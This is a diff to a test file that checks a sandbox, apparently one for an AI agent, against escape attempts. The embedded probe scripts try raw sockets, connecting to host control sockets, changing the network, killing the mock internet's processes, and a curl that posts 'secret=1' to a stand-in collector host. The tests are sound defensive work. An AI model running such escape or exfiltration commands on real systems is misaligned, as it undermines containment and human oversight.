@@ -63,7 +63,7 @@ function hostAddresses(): string[] {
 }
 
 describe.each(accounts)('%s inside', (account) => {
-  it('reaches no listener of the host and no address outside', async () => {
+  it('an agent inside reaches no listener of the host and no external address', async () => {
     const program = `
 import socket
 for address in ${JSON.stringify(hostAddresses())}:
@@ -84,7 +84,7 @@ print('done')`;
     expect(reached).toBe(0);
   });
 
-  it('has no sockets of other kinds, and no raw ones', async () => {
+  it('an agent inside has no other socket types and no raw sockets', async () => {
     const program = `
 import socket
 for family, kind in [(40, 1), (38, 5), (17, 3), (31, 1), (16, 3), (2, 3), (10, 3), (44, 3), (29, 3), (1 << 32 | 40, 1)]:
@@ -100,7 +100,7 @@ print('done')`;
     expect((await attemptPython(desktop, account, program)).output.trim()).toBe('done');
   });
 
-  it('cannot connect to abstract sockets of the host or to its own control socket', async () => {
+  it('an agent inside cannot connect to abstract sockets of the host or its own control socket', async () => {
     const program = `
 import socket, os
 for name in ['\\0${abstractName}', ${JSON.stringify(desktop.controlPath)}]:
@@ -114,7 +114,7 @@ print('done')`;
     expect(reached).toBe(0);
   });
 
-  it('cannot change its network', async () => {
+  it('an agent inside cannot change its network', async () => {
     const script = `ip link add d0 type dummy; ip link set lo down; ip route del local 198.18.0.0/15 dev lo table local; ip addr add 10.9.8.7/8 dev lo; ip -br addr; true`;
     const { output } = await attempt(desktop, account, script);
     expect(output).toMatch(/not permitted/);
@@ -122,7 +122,7 @@ print('done')`;
     expect(output).toMatch(/^lo\s+\S+\s+127\.0\.0\.1\/8 ::1\/128 *$/m);
   });
 
-  it('cannot see, stop, replace or edit the internet beside it', async () => {
+  it('an agent inside cannot see, stop, replace or edit the mock internet', async () => {
     const script = `ps -eo args | grep -E 'internet[.]mjs|packet_log[.]py|program_log[.]py' | grep -v grep; cat /mnt/ca
 bind() { python3 -c "import socket; s=socket.socket(); s.setsockopt(1,15,1); s.setsockopt(1,2,1); s.bind(('$1',$2)); s.listen(); print('$3')" 2>&1 | tail -1; }
 for a in 0.0.0.0 127.0.0.1 127.0.0.53 198.18.0.9; do bind $a 53 BOUND; bind $a 25 BOUND; done
@@ -138,7 +138,7 @@ echo 'process.exit()' > /usr/lib/session/internet.mjs; fuser -k 80/tcp 443/tcp 5
   });
 });
 
-it('sees the requests from outside, whatever their headers say', async () => {
+it('requests are seen from outside, whatever their headers say', async () => {
   const since = Date.now();
   await attempt(desktop, 'user', "curl -sS -H 'Host: innocent.example' -d secret=1 http://collector.example.net/drop");
   const requests = (await desktop.webLog(since)).filter((entry) => entry.kind === 'http');
